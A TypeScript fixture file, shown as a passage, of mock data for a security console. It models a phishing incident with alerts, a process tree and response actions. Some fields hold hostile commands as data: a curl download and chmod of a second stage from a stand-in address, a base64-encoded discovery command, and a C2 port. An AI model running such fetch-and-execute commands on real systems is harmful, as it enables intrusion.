// The story as data: a mail with an archive, one recipient who opened it, everything that followed.
import type {
  Action, ActionSpec, ApiToken, AlertDetail, AuditRecord, AutomationLevel, AutomationPolicy, AutomationPreview, CrawlStatus, Device, EnrolmentTokenInfo, EventRow, Evidence, GraphEdge, IncidentDetail,
  FeedRun, IncidentTimeline, Indicator, IndicatorEffect, IndicatorFeed, IndicatorLook, IndicatorReach, IndicatorWhy, Investigation, MessageCopy, NewTuningRule, Notification, NotificationChannel, RuleQuality, SessionInfo, Settings, Severity, StoryNode, Text, TuningPreview, TuningRule, User,
} from '../src/api/types';

export const NOW = Date.parse('2026-11-22T09:40:00Z');
export const at = (secondsAgo: number) => new Date(NOW - secondsAgo * 1000).toISOString().replace('Z', '000Z');
export const id = (group: number, n: number) => `019ab${group.toString(16)}00-0000-7000-8000-${n.toString(16).padStart(12, '0')}`;
export const text = (en: string, ja: string): Text => ({ en, ja });
const same = (words: string): Text => ({ en: words, ja: words });
const sha = (seed: string) => {
  let out = '';
  let h = 2166136261;
  for (const letter of seed) h = Math.imul(h ^ letter.charCodeAt(0), 16777619) >>> 0;
  for (let i = 0; out.length < 64; i += 1) {
    h = Math.imul(h ^ i, 16777619) >>> 0;
    out += h.toString(16).padStart(8, '0');
  }
  return out.slice(0, 64);
};

export const SHA = { zip: sha('invoice.zip'), script: sha('invoice.sh'), stage2: sha('stage2'), bash: sha('bash') };
export const SENDER = 'billing@supplier-invoices.example';
const MESSAGE = id(5, 1);
export const CAMPAIGN = 'a41c09e2b7d35f10';
export const BEGIN = 38 * 60;

export const devices: Device[] = ['PC-TANAKA', 'PC-SATO', 'SRV-FILE01', 'PC-SUZUKI', 'NB-YAMADA'].map((name, index) => ({
  id: id(1, index + 1), name, health: index === 3 ? 'inactive' : index === 4 ? 'impaired' : 'active', online: index !== 3,
  isolation: 'notIsolated', risk: index === 0 ? 'high' : index === 2 ? 'low' : null, automation_level: null,
  tags: index === 2 ? ['server'] : ['経理'], enrolled_at: at(86_400 * 20), last_seen: at(index === 3 ? 86_400 * 2 : 4 + index),
  certificate_sha256: sha(name), events: 48_211 + index * 7_301, version: 3,
  status: {
    sensor_version: '0.1.0', host_name: name.toLowerCase(), os_platform: 'linux', os_version: 'Debian GNU/Linux 12 (bookworm)', kernel: '6.1.0-28-amd64',
    ip_addresses: [`10.20.0.${11 + index}`], logged_on_users: index === 2 ? [] : [['tanaka', 'sato', '', 'suzuki', 'yamada'][index]!],
    capabilities: { exec: 'ok', file: 'ok', network: 'ok', dns: 'ok', prevent: index === 4 ? 'fanotify is not permitted' : 'ok', isolate: 'ok', notify: 'ok' },
    drops: {}, spooled_events: 0, spool_bytes: 0, block_list_version: 12, rules_version: 0, isolated: false, memory_bytes: 41_200_000,
  },
}));
const PC = devices[0]!;
const ref = { id: PC.id, name: PC.name };
const process = (pid: number, seconds: number) => `${PC.id}/${pid}/${(NOW - seconds * 1000) * 1000}`;
const P = { thunderbird: process(2210, 86_000), script: process(4711, BEGIN - 70), bash: process(4712, BEGIN - 71), curl: process(4720, BEGIN - 73), stage2: process(4733, BEGIN - 79) };

export const recipients = ['tanaka', 'sato', 'suzuki', 'yamada', 'kobayashi', 'ito', 'watanabe', 'nakamura', 'kato', 'yoshida', 'sasaki', 'mori'].map((name) => `${name}@hinomi.example`);
const attachments = [
  { name: 'invoice.zip', sha256: SHA.zip, size: 812, file_type: 'application/zip', parent_sha256: null, uninspected: null },
  { name: 'invoice.sh', sha256: SHA.script, size: 436, file_type: 'text/x-shellscript', parent_sha256: SHA.zip, uninspected: null },
];
export const messages: MessageCopy[] = recipients.map((recipient) => ({
  message_id: MESSAGE, recipient, internet_message_id: '20261122.0902.771@supplier-invoices.example', sender_mail_from: SENDER, sender_from: SENDER,
  sender_display_name: '請求書係 (Billing)', sender_ip: '203.0.113.77', subject: 'ご請求書の送付 (November invoice)', size: 4_812, received_at: at(BEGIN), body_sha256: sha('body'),
  attachments, urls: ['http://supplier-invoices.example/portal?ref=8812'], auth: { spf: 'pass', dkim: 'none', dmarc: 'fail' }, delivery_action: 'delivered',
  delivery_location: 'inbox', latest_location: 'inbox', verdict: 'malicious', indicators: [], version: 1, direction: 'inbound', source: 'gateway', return_path: SENDER,
  url_domains: ['supplier-invoices.example'], fingerprint: 'c3a1f00d12345678', campaign: CAMPAIGN, bulk: false, threats: ['malware'], references: [], findings: ['encrypted'], folder: 'INBOX', moved_at: null, moved_by: null,
  filters: [
    { engine: 'rspamd', verdict: 'suspicious', threat: 'spam', reason: 'score 9.4 of 15: MIME_ARCHIVE_IN_ARCHIVE, HFILTER_HELO_UNKNOWN', link: null },
    { engine: 'sandbox', verdict: 'malicious', threat: 'malware', reason: 'invoice.sh fetched http://203.0.113.77:8080/stage2', link: 'https://sandbox.hinomi.example/report/8812' },
  ],
}));
for (let n = 0; n < 30; n += 1) {
  messages.push({
    ...messages[0]!, message_id: id(5, 10 + n), recipient: recipients[n % 12]!, subject: ['週次報告', 'Meeting on Thursday', '見積もりの件', 'Re: delivery dates'][n % 4]!, attachments: [],
    urls: [], sender_from: `partner${n}@example.net`, sender_mail_from: `partner${n}@example.net`, sender_display_name: `Partner ${n}`, verdict: n % 7 === 3 ? 'suspicious' : n % 5 === 4 ? 'unknown' : 'noThreatsFound',
    url_domains: [], return_path: `partner${n}@example.net`, campaign: sha(`campaign${n % 4}`).slice(0, 16), threats: n % 7 === 3 ? ['spam'] : [], references: [], findings: [], filters: [], source: n % 3 === 2 ? 'crawl' : 'gateway',
    latest_location: n % 7 === 3 ? 'junkFolder' : n % 11 === 5 ? 'deletedItems' : 'inbox', delivery_location: n % 7 === 3 ? 'junkFolder' : 'inbox', moved_by: n % 11 === 5 ? 'owner' : null, moved_at: n % 11 === 5 ? at(900) : null,
    received_at: at(BEGIN + 2_900 * (n + 1)), auth: { spf: 'pass', dkim: 'pass', dmarc: 'pass' }, size: 9_000 + n * 311, internet_message_id: `m${n}@example.net`,
  });
}

export const INCIDENT = id(2, 1042);
const INVESTIGATION = id(4, 17);
interface AlertSeed { n: number; title: Text; severity: Severity; tactic: string; technique: string; seconds: number; status?: AlertDetail['detection_status']; mail?: boolean; field: [string, string, string] }
const seeds: AlertSeed[] = [
  { n: 1, title: text('Script started from a mail attachment', 'メールの添付ファイルからスクリプトを実行'), severity: 'high', tactic: 'execution', technique: 'T1204.002', seconds: BEGIN - 70, field: ['InitiatingProcessFileName', 'thunderbird', 'thunderbird|evolution'] },
  { n: 2, title: text('Shell downloads and runs a second stage', 'シェルが第 2 段階をダウンロードして実行'), severity: 'high', tactic: 'execution', technique: 'T1059.004', seconds: BEGIN - 73, field: ['ProcessCommandLine', 'curl -fsS http://203.0.113.77:8080/stage2 -o /home/tanaka/.cache/.st2', '|contains: curl'] },
  { n: 3, title: text('Persistence by autostart entry', '自動起動エントリによる永続化'), severity: 'medium', tactic: 'persistence', technique: 'T1547.013', seconds: BEGIN - 76, field: ['FolderPath', '/home/tanaka/.config/autostart/update.desktop', '|contains: /.config/autostart/'] },
  { n: 4, title: text('Hidden executable started from a cache folder', 'キャッシュ フォルダーの隠しファイルを実行'), severity: 'medium', tactic: 'defense-evasion', technique: 'T1564.001', seconds: BEGIN - 79, field: ['FolderPath', '/home/tanaka/.cache/.st2', '|re: /\\.[^/]+$'] },
  { n: 5, title: text('Connection to an unusual port of an unknown address', '不明なアドレスの通常と異なるポートへ接続'), severity: 'medium', tactic: 'command-and-control', technique: 'T1571', seconds: BEGIN - 82, field: ['RemotePort', '4444', '4444'] },
  { n: 6, title: text('Account and host discovery by a new process', '新しいプロセスによるアカウントとホストの探索'), severity: 'low', tactic: 'discovery', technique: 'T1033', seconds: BEGIN - 83, field: ['ProcessCommandLine', 'id; uname -a; whoami', '|contains: whoami'] },
  { n: 7, title: text('Mail with a script inside an archive', 'アーカイブにスクリプトを含むメール'), severity: 'medium', tactic: 'initial-access', technique: 'T1566.001', seconds: BEGIN, mail: true, field: ['FileType', 'text/x-shellscript', 'text/x-shellscript'] },
  { n: 8, title: text('Blocked file was opened again', 'ブロック済みのファイルを再び実行'), severity: 'medium', tactic: 'execution', technique: 'T1204.002', seconds: 95, status: 'prevented', field: ['SHA256', SHA.script, SHA.script] },
];

const evidenceOf = (waiting: boolean): Evidence[] => {
  const status = waiting ? ('pendingApproval' as const) : ('remediated' as const);
  const make = (entity: string, name: string, verdict: Evidence['verdict'], reason: Text, facts: Record<string, string>, remediation: Evidence['remediation_status'] = status, role: Evidence['role'] = 'contextual'): Evidence => ({
    entity, name, verdict, reason, facts, role, remediation_status: remediation, remediation_detail: null, action_id: null, first_seen: at(BEGIN - 60),
  });
  return [
    make(`sender:${SENDER}`, SENDER, 'malicious', text('Sent the file to 12 mailboxes', 'このファイルを 12 件のメールボックスに送信'), { sender: SENDER }, status, 'attacker'),
    make(`message:${MESSAGE}`, 'ご請求書の送付 (November invoice)', 'malicious', text('Carries the malicious file inside invoice.zip', 'invoice.zip の中に悪意のあるファイルを含む'), { subject: 'ご請求書の送付 (November invoice)', sender: SENDER }, status, 'source'),
    ...recipients.map((recipient) => make(`messageCopy:${MESSAGE}/${recipient}`, recipient, 'malicious', text('Copy of the malicious mail', '悪意のあるメールの写し'), { recipient })),
    make(`file:${SHA.zip}`, 'invoice.zip', 'malicious', text('Contains the malicious script', '悪意のあるスクリプトを含む'), { sha256: SHA.zip }, status, 'source'),
    make(`file:${SHA.script}`, 'invoice.sh', 'malicious', text('Started a shell, fetched a second stage and made itself persistent', 'シェルを起動し、第 2 段階を取得し、永続化した'), { path: '/home/tanaka/Downloads/invoice.sh', sha256: SHA.script }, status, 'attacker'),
    make(`process:${P.script}`, 'invoice.sh', 'malicious', text('Root of the attack on this device', 'この端末での攻撃の起点'), { pid: '4711', command_line: '/bin/sh /home/tanaka/Downloads/invoice.sh' }),
    make(`process:${P.stage2}`, '.st2', 'malicious', text('Second stage, called out to the attacker', '第 2 段階。攻撃者へ通信'), { pid: '4733', command_line: '/home/tanaka/.cache/.st2 --daemon' }),
    make(`file:${SHA.stage2}`, '.st2', 'suspicious', text('Hidden file, downloaded by the script', 'スクリプトがダウンロードした隠しファイル'), { path: '/home/tanaka/.cache/.st2' }, status, 'created'),
    make('ip:203.0.113.77', '203.0.113.77', 'suspicious', text('The second stage connected to it', '第 2 段階の接続先'), { address: '203.0.113.77', port: '4444' }, 'active', 'commandAndControl'),
    make(`device:${PC.id}`, PC.name, 'suspicious', text('The attack ran here', 'この端末で攻撃が実行された'), { user: 'tanaka' }, 'active', 'attacked'),
    make('user:tanaka', 'tanaka', 'unknown', text('Opened the attachment', '添付ファイルを開いた'), {}, 'none', 'attacked'),
  ];
};
export const evidence = evidenceOf(true);
export const edges: GraphEdge[] = [
  { from: `sender:${SENDER}`, to: `message:${MESSAGE}`, label: text('sent', '送信') },
  { from: `message:${MESSAGE}`, to: `file:${SHA.zip}`, label: text('carries', '添付') },
  ...recipients.map((recipient) => ({ from: `message:${MESSAGE}`, to: `messageCopy:${MESSAGE}/${recipient}`, label: text('delivered', '配送') })),
  { from: `file:${SHA.zip}`, to: `file:${SHA.script}`, label: text('contains', '含む') },
  { from: `file:${SHA.script}`, to: `process:${P.script}`, label: text('ran as', '実行') },
  { from: 'user:tanaka', to: `process:${P.script}`, label: text('started', '起動') },
  { from: `process:${P.script}`, to: `file:${SHA.stage2}`, label: text('wrote', '作成') },
  { from: `file:${SHA.stage2}`, to: `process:${P.stage2}`, label: text('ran as', '実行') },
  { from: `process:${P.stage2}`, to: 'ip:203.0.113.77', label: text('connected', '接続') },
  { from: `process:${P.script}`, to: `device:${PC.id}`, label: text('on', '端末') },
];

export const alerts: AlertDetail[] = seeds.map((seed, index) => ({
  id: id(3, seed.n), incident_id: INCIDENT, incident_number: 1042, title: seed.title,
  description: text('A program that opens mail started a script the user had just saved. Attachments that are scripts rarely have a good reason.', 'メール プログラムが、保存直後のスクリプトを起動しました。スクリプトの添付ファイルに正当な理由があることはまれです。'),
  severity: seed.severity, status: 'new', classification: 'unknown', determination: 'unknown', detection_status: seed.status ?? 'detected',
  detection_status_reason: seed.status ? text('The hash was on the block list; the file never ran.', 'ハッシュがブロック リストにあり、ファイルは実行されませんでした。') : null,
  service_source: seed.mail ? 'mail' : 'endpoint', detection_source: seed.status ? 'customTi' : 'rule', category: seed.tactic, techniques: [seed.technique], rule_id: `hinomi-linux-${100 + seed.n}`,
  why: [{ rule_id: `hinomi-linux-${100 + seed.n}`, title: seed.title, event: { table: 'DeviceProcessEvents', timestamp: at(seed.seconds), device_id: PC.id, report_id: String(8000 + seed.n) }, matched: [{ field: seed.field[0], value: seed.field[1], pattern: seed.field[2] }, { field: 'FileName', value: 'invoice.sh', pattern: '|endswith: .sh' }] }],
  test: false, tuned: seed.n === 6 ? { rule: id(14, 1), title: '社内スキャナーの接続', action: 'lowerSeverity', severity: 'medium' } : null, why_more: index === 0 ? 2 : 0, device: seed.mail ? null : ref, user: seed.mail ? null : 'tanaka', mailboxes: seed.mail ? recipients : [], message_id: seed.mail ? MESSAGE : null,
  process: seed.mail ? null : P.script, tree_root: seed.mail ? null : P.thunderbird, evidence: evidence.filter((item) => /^(file|process|ip|device)/.test(item.entity)),
  next_steps: [
    { text: text('Stop the process tree and everything it started.', 'プロセス ツリーと、そこから起動したものをすべて停止します。'), action: { kind: 'stop_process_tree', process: P.script } },
    { text: text('Quarantine invoice.sh on PC-TANAKA.', 'PC-TANAKA の invoice.sh を隔離します。'), action: { kind: 'quarantine_file', device_id: PC.id, sha256: SHA.script, paths: ['/home/tanaka/Downloads/invoice.sh'] } },
    { text: text('Ask the user whether the file was opened on purpose.', 'ファイルを意図して開いたか、利用者に確認します。'), action: null },
  ],
  investigation_id: INVESTIGATION, investigation_state: 'pendingApproval', investigation_number: 17, assigned_to: null, comments: [], created_at: at(seed.seconds - 1), updated_at: at(seed.seconds - 1),
  first_activity: at(seed.seconds), last_activity: at(seed.seconds), version: 1,
  link: { alert_id: id(3, seed.n), linked_to: index === 0 ? null : id(3, 1), reason: index === 0 ? 'firstAlert' : seed.mail ? 'similarArtifacts' : seed.status ? 'sharedIndicators' : 'eventCasualSequence', shared: index === 0 ? null : seed.mail ? `file:${SHA.script}` : `process:${P.script}`, at: at(seed.seconds - 1) },
}));

const node = (key: string, parent: string | null, kind: StoryNode['kind'], name: string, seconds: number, more: Partial<StoryNode> = {}): StoryNode => ({
  key, parent, kind, name, at: at(seconds), command_line: null, ended_at: null, user: kind === 'process' ? 'tanaka' : null, sha256: null, severity: null, technique: null, detection: null, facts: {}, prevalence: null, entity: null, ...more,
});
export const story: StoryNode[] = [
  node('u', null, 'user', 'tanaka', 86_400, { facts: { session: 'wayland-0' }, entity: 'user:tanaka' }),
  node('p1', 'u', 'process', 'thunderbird', 86_000, { command_line: '/usr/bin/thunderbird', prevalence: 4, entity: `process:${P.thunderbird}`, sha256: sha('thunderbird') }),
  node('m', 'p1', 'mail', 'ご請求書の送付 (November invoice)', BEGIN - 40, { facts: { sender: SENDER }, entity: `message:${MESSAGE}` }),
  node('f1', 'p1', 'file', 'invoice.sh', BEGIN - 62, { facts: { path: '/home/tanaka/Downloads/invoice.sh' }, sha256: SHA.script, prevalence: 1, entity: `file:${SHA.script}` }),
  node('p2', 'p1', 'process', 'invoice.sh', BEGIN - 70, { command_line: '/bin/sh /home/tanaka/Downloads/invoice.sh', severity: 'high', technique: 'T1204.002', detection: seeds[0]!.title, sha256: SHA.script, prevalence: 1, entity: `process:${P.script}` }),
  node('p3', 'p2', 'process', 'bash', BEGIN - 71, { command_line: 'bash -c "curl -fsS http://203.0.113.77:8080/stage2 -o ~/.cache/.st2; chmod +x ~/.cache/.st2"', severity: 'high', technique: 'T1059.004', detection: seeds[1]!.title, sha256: SHA.bash, prevalence: 5, ended_at: at(BEGIN - 78), entity: `process:${P.bash}` }),
  node('p4', 'p3', 'process', 'curl', BEGIN - 73, { command_line: 'curl -fsS http://203.0.113.77:8080/stage2 -o /home/tanaka/.cache/.st2', prevalence: 5, ended_at: at(BEGIN - 74), entity: `process:${P.curl}` }),
  node('n1', 'p4', 'network', '203.0.113.77:8080', BEGIN - 73, { facts: { address: '203.0.113.77', port: '8080' }, entity: 'ip:203.0.113.77' }),
  node('f2', 'p4', 'file', '.st2', BEGIN - 74, { facts: { path: '/home/tanaka/.cache/.st2' }, sha256: SHA.stage2, prevalence: 1, entity: `file:${SHA.stage2}` }),
  node('f3', 'p2', 'file', 'update.desktop', BEGIN - 76, { facts: { path: '/home/tanaka/.config/autostart/update.desktop' }, severity: 'medium', technique: 'T1547.013', detection: seeds[2]!.title }),
  node('p5', 'p2', 'process', '.st2', BEGIN - 79, { command_line: '/home/tanaka/.cache/.st2 --daemon --run d2hvYW1pOyBpZDsgdW5hbWUgLWE=', facts: { decoded: 'whoami; id; uname -a' }, severity: 'medium', technique: 'T1564.001', detection: seeds[3]!.title, sha256: SHA.stage2, prevalence: 1, entity: `process:${P.stage2}` }),
  node('n2', 'p5', 'network', '203.0.113.77:4444', BEGIN - 82, { facts: { address: '203.0.113.77', port: '4444' }, severity: 'medium', technique: 'T1571', detection: seeds[4]!.title, entity: 'ip:203.0.113.77' }),
  node('p6', 'p5', 'process', 'whoami', BEGIN - 83, { command_line: 'whoami', severity: 'low', technique: 'T1033', detection: seeds[5]!.title, ended_at: at(BEGIN - 83), prevalence: 5 }),
];
/** A tree of 2,000 processes for the budget of large trees. */
export const largeStory: StoryNode[] = Array.from({ length: 2_000 }, (_, n) =>
  node(`l${n}`, n === 0 ? null : `l${Math.floor((n - 1) / 4)}`, 'process', `worker-${n}`, 5_000 - n, { command_line: `/usr/bin/worker --id ${n}` }));

const incidentBase: IncidentDetail = {
  id: INCIDENT, number: 1042, title: text('Mail attachment “invoice.sh” ran on PC-TANAKA, 12 mailboxes addressed', 'メールの添付「invoice.sh」が PC-TANAKA で実行、宛先 12 件'), title_by_person: false, severity_by_person: false, severity: 'high', status: 'awaitingAction',
  classification: 'unknown', determination: 'unknown', assigned_to: null, tags: ['invoice'], alerts: alerts.map((alert) => alert.link!), devices: [ref], users: ['tanaka'], mailboxes: recipients,
  tactics: ['initial-access', 'execution', 'persistence', 'defense-evasion', 'discovery', 'command-and-control'], techniques: seeds.map((seed) => seed.technique).filter((one, i, all) => all.indexOf(one) === i), investigations: [INVESTIGATION], comments: [],
  activities: [
    { at: at(BEGIN - 71), actor: 'system', text: text('Incident made from the first alert', '最初のアラートからインシデントを作成') },
    { at: at(BEGIN - 72), actor: 'investigation:17', text: text('Investigation started', '自動調査を開始') },
    { at: at(BEGIN - 95), actor: 'investigation:17', text: text('5 actions proposed', '5 件の対処を提案') },
  ],
  redirected_to: null, merged: null, apart: [], took_in: [1040], created_at: at(BEGIN - 71), updated_at: at(95), first_activity: at(BEGIN), last_activity: at(95), version: 9, alert_count: alerts.length, active_alerts: alerts.length, pending_actions: 5, sources: ['endpoint', 'mail'], investigation_state: 'pendingApproval',
};
export const incidents: IncidentDetail[] = [incidentBase];
const TITLES: [Text, Severity][] = [
  [text('Password guessing on SRV-FILE01', 'SRV-FILE01 へのパスワード推測'), 'medium'], [text('Cron entry made by an unusual process', '通常と異なるプロセスによる cron 登録'), 'medium'],
  [text('System log cleared on NB-YAMADA', 'NB-YAMADA のシステム ログ消去'), 'low'], [text('Blocked sender wrote to 3 mailboxes', 'ブロック済み送信者から 3 件のメール'), 'informational'], [text('Web shell behaviour on SRV-FILE01', 'SRV-FILE01 での Web シェルの挙動'), 'high'],
];
for (let n = 0; n < 240; n += 1) {
  const [title, severity] = TITLES[n % TITLES.length]!;
  const done = n % 3 !== 0;
  incidents.push({
    ...incidentBase, id: id(2, n + 1), number: 1041 - n, title, severity, status: done ? 'resolved' : n % 2 ? 'inProgress' : 'active', classification: done ? 'truePositive' : 'unknown', determination: done ? 'malware' : 'unknown',
    assigned_to: n % 2 ? 'sato' : null, tags: [], alerts: [], alert_count: 1 + (n % 5), active_alerts: done ? 0 : 1, devices: [{ id: devices[2]!.id, name: 'SRV-FILE01' }], users: [], mailboxes: n % 5 === 3 ? recipients.slice(0, 3) : [],
    tactics: [['credential-access'], ['persistence'], ['defense-evasion'], ['initial-access'], ['initial-access', 'persistence']][n % 5]!, techniques: ['T1110'], investigations: [], activities: [], pending_actions: 0, sources: n % 5 === 3 ? ['mail'] : ['endpoint'], investigation_state: done ? 'successfullyRemediated' : null,
    created_at: at(5_400 + n * 4_000), updated_at: at(5_000 + n * 4_000), first_activity: at(5_500 + n * 4_000), last_activity: at(5_000 + n * 4_000),
  });
}

export const timeline: IncidentTimeline = {
  lanes: [['initial-access', 'Initial access', '初期アクセス'], ['execution', 'Execution', '実行'], ['persistence', 'Persistence', '永続化'], ['defense-evasion', 'Defense evasion', '防御回避'], ['discovery', 'Discovery', '探索'], ['command-and-control', 'Command and control', 'C2 通信']].map(([tactic, en, ja]) => ({ tactic: tactic!, title: text(en!, ja!) })),
  markers: seeds.map((seed) => ({ at: at(seed.seconds), tactic: seed.tactic, technique: seed.technique, alert_id: id(3, seed.n), title: seed.title, severity: seed.severity, entity: null })),
};

/** How an action came to run: nothing decided yet, unless told. */
export const approval = (more: Partial<Action['approval']> = {}): Action['approval'] => ({
  needed: 1, given: [], grounds: null, unanswered: null, notice_at: null, noticed_at: null, escalated_at: null, again: null, history: [], ...more,
});
const propose = (n: number, spec: ActionSpec, reason: Text): Action => ({
  id: id(6, n), spec, state: 'pendingApproval', reason, proposed_by: 'investigation:17', decided_by: null, decided_at: null, comment: null, approval: approval(), incident_id: INCIDENT, investigation_id: INVESTIGATION, receipts: [], follow_up: null, undone_by: null, undoes: null, created_at: at(BEGIN - 95), finished_at: null, expires_at: at(-7 * 86_400 + 3_600), version: 1,
});
const block = (kind: 'fileSha256' | 'senderAddress', value: string): ActionSpec => ({ kind: 'add_indicator', indicator: { kind, value, action: 'block', severity: 'high', note: 'INC-1042', expires_at: null } });
export const actions: Action[] = [
  propose(1, { kind: 'stop_process_tree', process: P.script }, text('The process tree is malicious and still runs.', 'プロセス ツリーは悪意があり、まだ動作しています。')),
  propose(2, { kind: 'quarantine_file', device_id: PC.id, sha256: SHA.script, paths: ['/home/tanaka/Downloads/invoice.sh'] }, text('invoice.sh is malicious.', 'invoice.sh は悪意があります。')),
  propose(3, { kind: 'soft_delete_messages', copies: recipients.map((recipient) => ({ message_id: MESSAGE, recipient })) }, text('12 mailboxes hold the mail with the malicious file.', '12 件のメールボックスに悪意のあるファイルを含むメールがあります。')),
  propose(4, block('fileSha256', SHA.script), text('Stop the file on every device and at the gateway.', 'すべての端末とゲートウェイでこのファイルを止めます。')),
  propose(5, block('senderAddress', SENDER), text('The sender only sent this file.', 'この送信者はこのファイルだけを送信しています。')),
  { ...propose(6, { kind: 'isolate_device', device_id: devices[2]!.id, lease_seconds: 14_400 }, text('Web shell behaviour', 'Web シェルの挙動')), state: 'failed', proposed_by: 'sato', decided_by: 'sato', decided_at: at(90_000), incident_id: incidents[5]!.id, investigation_id: null, created_at: at(90_100), finished_at: at(89_900), receipts: [{ target: `device:${devices[2]!.id}`, state: 'failed', detail: text('nftables is not available on this device', 'この端末では nftables を使用できません'), proof: null, at: at(89_900) }] },
  { ...propose(7, { kind: 'isolate_device', device_id: PC.id, lease_seconds: 86_400 }, text('The device still talks to the attacker.', 'この端末は攻撃者と通信を続けています。')), proposed_by: 'sato', investigation_id: null, incident_id: incidents[1]!.id, approval: approval({
    needed: 2, given: [{ by: 'sato', at: at(BEGIN - 95), comment: null }], unanswered: { then: 'escalate', at: at(-1_800) },
    history: [{ at: at(BEGIN - 95), by: 'sato', text: text('Approved by sato (1/2).', 'sato が承認しました (1/2)。') }],
  }) },
  { ...propose(8, { kind: 'quarantine_file', device_id: devices[2]!.id, sha256: SHA.script, paths: ['/var/www/html/up.php'] }, text('up.php is suspicious.', 'up.php は疑わしいファイルです。')), state: 'expired', incident_id: incidents[5]!.id, investigation_id: null, created_at: at(8 * 86_400), finished_at: at(86_400), expires_at: at(86_400), approval: approval({
    history: [
      { at: at(8 * 86_400), by: 'automation', text: text('Waits for a person: the evidence is not enough to act without a person; level full (devices).', '承認待ち: 人の確認なしで対処するには根拠が足りません。レベル「完全自動」 (デバイス)。') },
      { at: at(2 * 86_400), by: 'system', text: text('Approvers were told that it expires soon.', '期限が近いことを承認者に通知しました。') },
      { at: at(86_400), by: 'system', text: text('Expired: it was not approved in time. It can be ordered again.', '期限までに承認されなかったため、期限切れになりました。もう一度実行できます。') },
    ],
  }) },
];

const step = (name: string, title: Text, state: Investigation['steps'][number]['state'], result: Text, from: number | null, took: number): Investigation['steps'][number] => ({
  name, title, state, result, waits_for: [], attempts: state === 'pending' ? 0 : 1, started_at: from === null ? null : at(from), ended_at: from === null || state === 'running' ? null : at(from - took),
});
export const investigations: Investigation[] = [
  {
    id: INVESTIGATION, number: 17, playbook: 'malicious_file', title: text('Malicious file: invoice.sh', '悪意のあるファイル: invoice.sh'), state: 'pendingApproval', state_reason: text('5 actions wait for approval.', '5 件の対処が承認を待っています。'), alert_id: id(3, 1), incident_id: INCIDENT, device: ref, automation_level: 'semiAll', by_hand: false,
    steps: [
      step('collect', text('Collect the process tree', 'プロセス ツリーの収集'), 'done', text('13 processes, files and connections', 'プロセス、ファイル、通信 13 件'), BEGIN - 72, 0.4),
      step('judge', text('Judge the file', 'ファイルの判定'), 'done', text('malicious: started a shell, fetched a second stage', '悪意あり: シェルを起動し第 2 段階を取得'), BEGIN - 73, 0.2),
      step('find_mail', text('Find the mail it came from', '発生元のメールを特定'), 'done', text('1 message, inside invoice.zip', 'メール 1 通、invoice.zip の中'), BEGIN - 74, 0.6),
      step('find_twins', text('Find its twins in all mailboxes', 'すべてのメールボックスで写しを検索'), 'done', text('11 more copies in 50 mailboxes', '50 件のメールボックスでさらに 11 通'), BEGIN - 75, 1.8),
      step('find_devices', text('Find other devices', '他の端末を検索'), 'done', text('no other device saw the file', '他の端末では確認されず'), BEGIN - 77, 0.1),
      step('propose', text('Propose actions', '対処を提案'), 'done', text('5 actions', '5 件の対処'), BEGIN - 78, 0.05),
    ],
    evidence, edges, actions: actions.slice(0, 5).map((action) => action.id),
    log: ['collect', 'judge', 'find_mail', 'find_twins', 'find_devices', 'propose'].map((name, index) => ({ at: at(BEGIN - 72 - index), step: name, state: 'done' as const, text: text(`finished ${name}`, `${name} が完了`), duration_us: [400_000, 212_000, 611_000, 1_803_000, 96_000, 51_000][index]! })),
    started_at: at(BEGIN - 72), ended_at: null, version: 8,
  },
  {
    id: id(4, 16), number: 16, playbook: 'malicious_file', title: text('Malicious file: backdoor.php', '悪意のあるファイル: backdoor.php'), state: 'failed', state_reason: text('The device did not answer.', '端末が応答しませんでした。'), alert_id: id(3, 2), incident_id: incidents[5]!.id, device: { id: devices[2]!.id, name: 'SRV-FILE01' }, automation_level: 'full', by_hand: false,
    steps: [
      step('collect', text('Collect the process tree', 'プロセス ツリーの収集'), 'done', text('4 processes', 'プロセス 4 個'), 91_000, 0.5),
      step('judge', text('Judge the file', 'ファイルの判定'), 'failed', text('SRV-FILE01 closed the connection while the file was read (timed out after 30 s).', 'ファイルの読み取り中に SRV-FILE01 との接続が切れました (30 秒で時間切れ)。'), 90_990, 30),
      step('find_mail', text('Find the mail it came from', '発生元のメールを特定'), 'pending', same(''), null, 0),
    ],
    evidence: evidence.slice(-2), edges: [], actions: [], log: [{ at: at(90_960), step: 'judge', state: 'failed', text: text('timed out', '時間切れ'), duration_us: 30_000_000 }], started_at: at(91_000), ended_at: at(90_900), version: 4,
  },
  {
    id: id(4, 18), number: 18, playbook: 'malicious_file', title: text('Blocked file opened again', 'ブロック済みファイルの再実行'), state: 'running', state_reason: null, alert_id: id(3, 8), incident_id: INCIDENT, device: ref, automation_level: 'semiAll', by_hand: false,
    steps: [step('collect', text('Collect the process tree', 'プロセス ツリーの収集'), 'done', text('2 processes', 'プロセス 2 個'), 60, 0.5), step('judge', text('Judge the file', 'ファイルの判定'), 'running', same(''), 50, 0), step('find_mail', text('Find the mail it came from', '発生元のメールを特定'), 'pending', same(''), null, 0)],
    evidence: [], edges: [], actions: [], log: [], started_at: at(60), ended_at: null, version: 2,
  },
];
alerts[7]!.investigation_id = id(4, 18);
alerts[7]!.investigation_state = 'running';
alerts[7]!.investigation_number = 18;

export const indicators: Indicator[] = [
  { id: id(7, 1), spec: { kind: 'domain', value: 'supplier-invoices.example', action: 'audit', severity: 'medium', note: 'look-alike of a supplier', expires_at: at(-80 * 86_400) }, created_by: 'admin', created_at: at(86_400 * 10), incident_id: null, import_id: null, list_version: null, hits: 12, last_hit: at(BEGIN), version: 1 },
  { id: id(7, 2), spec: { kind: 'fileSha256', value: SHA.bash, action: 'allow', severity: 'informational', note: 'system shell', expires_at: null }, created_by: 'admin', created_at: at(86_400 * 12), incident_id: null, import_id: null, list_version: null, hits: 0, last_hit: null, version: 1 },
  { id: id(7, 3), spec: { kind: 'fileSha256', value: SHA.stage2, action: 'blockAndRemediate', severity: 'high', note: 'second stage', expires_at: null, scope: { device_tags: ['servers'], mail_domains: [] } }, created_by: 'admin', created_at: at(86_400), incident_id: null, import_id: null, list_version: 4, hits: 3, last_hit: at(BEGIN), version: 1 },
  { id: id(7, 4), spec: { kind: 'subjectPattern', value: '*支払い期限のお知らせ*', action: 'warn', severity: 'low', note: 'wave of April', expires_at: at(-20 * 86_400) }, created_by: 'feed:isac', created_at: at(86_400), incident_id: null, import_id: null, list_version: null, hits: 0, last_hit: null, version: 1 },
